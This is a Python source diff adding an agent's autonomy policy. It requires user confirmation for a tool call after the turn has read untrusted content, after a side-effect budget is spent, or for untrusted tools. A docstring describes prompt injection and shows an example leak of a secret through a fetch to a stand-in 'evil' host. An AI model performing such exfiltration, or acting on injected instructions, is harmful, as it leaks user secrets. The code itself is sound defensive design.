@@ -1,0 +1,102 @@
+"""The autonomy policy: for one tool call, auto, confirm or deny, and why.
+
+A call takes the strictest mode of its side effects (deny > confirm > auto); effects not configured take
+`autonomy.default`. On top of that, a call is escalated from auto to confirm when:
+  - the turn has already read untrusted content (a document must never make Jarvis act by itself);
+  - the turn's side-effect budget is spent;
+  - the tool asks for it (a newly generated tool that has not earned trust yet).
+A scope (a jorb's approved overrides) may relax or tighten effects for its own calls only.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable, Mapping
+from dataclasses import dataclass, field
+
+from orchestrator.core.config import AutonomyConfig, Mode
+
+_RANK: dict[str, int] = {"auto": 0, "confirm": 1, "deny": 2}
+
+
+def strictest(modes: Iterable[Mode]) -> Mode:
+    result: Mode = "auto"
+    for m in modes:
+        if _RANK[m] > _RANK[result]:
+            result = m
+    return result
+
+
+@dataclass
+class PolicyDecision:
+    mode: Mode
+    reasons: list[str] = field(default_factory=list)
+    escalated: bool = False
+
+    @property
+    def reason(self) -> str:
+        return "; ".join(self.reasons)
+
+
+# Effects that only the user's own config can make automatic: a task's scoped overrides (approved once, for a
+# jorb) never do, since starting a program outside the sandbox is not something to grant in passing.
+CONFIG_ONLY_AUTO = frozenset({"process_start"})
+
+
+def mode_for_effect(effect: str, config: AutonomyConfig, overrides: Mapping[str, Mode] | None = None) -> Mode:
+    configured = config.effects.get(effect, config.default)
+    if overrides and effect in overrides:
+        if effect in CONFIG_ONLY_AUTO and overrides[effect] == "auto":
+            return configured
+        return overrides[effect]
+    return configured
+
+
+def decide(
+    side_effects: list[str],
+    config: AutonomyConfig,
+    *,
+    overrides: Mapping[str, Mode] | None = None,
+    untrusted_seen: bool = False,
+    effects_this_turn: int = 0,
+    tool_requires_confirmation: str | None = None,
+    sends_out: bool = False,
+) -> PolicyDecision:
+    """sends_out: the call can carry data off the machine (a fetch of a URL, a send): after untrusted content it
+    is escalated like a side effect, whatever its hints, since reading a secret then fetching
+    `https://evil/?q=SECRET` changes nothing here and still leaks."""
+    escalates_as_effect = bool(side_effects) or (sends_out and config.escalate_after_untrusted and untrusted_seen)
+    if not escalates_as_effect and not tool_requires_confirmation:
+        return PolicyDecision("auto")
+    modes = {e: mode_for_effect(e, config, overrides) for e in side_effects}
+    mode = strictest(modes.values())
+    reasons: list[str] = []
+    if mode == "deny":
+        denied = [e for e, m in modes.items() if m == "deny"]
+        return PolicyDecision("deny", [f"the autonomy policy denies {', '.join(denied)}"])
+    if mode == "confirm":
+        confirmed = [e for e, m in modes.items() if m == "confirm"]
+        reasons.append(f"the autonomy policy asks before {', '.join(confirmed)}")
+    escalated = False
+    if tool_requires_confirmation:
+        if mode == "auto":
+            escalated = True
+        mode = "confirm"
+        reasons.append(tool_requires_confirmation)
+    if escalates_as_effect and config.escalate_after_untrusted and untrusted_seen:
+        if mode == "auto":
+            escalated = True
+        mode = "confirm"
+        reasons.append(
+            "escalated: this thread has read content from outside the conversation (a file, email, web page or "
+            "document), which could be trying to make Jarvis act"
+            + ("" if side_effects else "; this call can send data off this machine")
+        )
+    if side_effects and effects_this_turn >= config.max_side_effects_per_turn:
+        if mode == "auto":
+            escalated = True
+        mode = "confirm"
+        reasons.append(
+            f"this turn has already run {effects_this_turn} side effects "
+            f"(autonomy.max_side_effects_per_turn = {config.max_side_effects_per_turn})"
+        )
+    return PolicyDecision(mode, reasons, escalated)
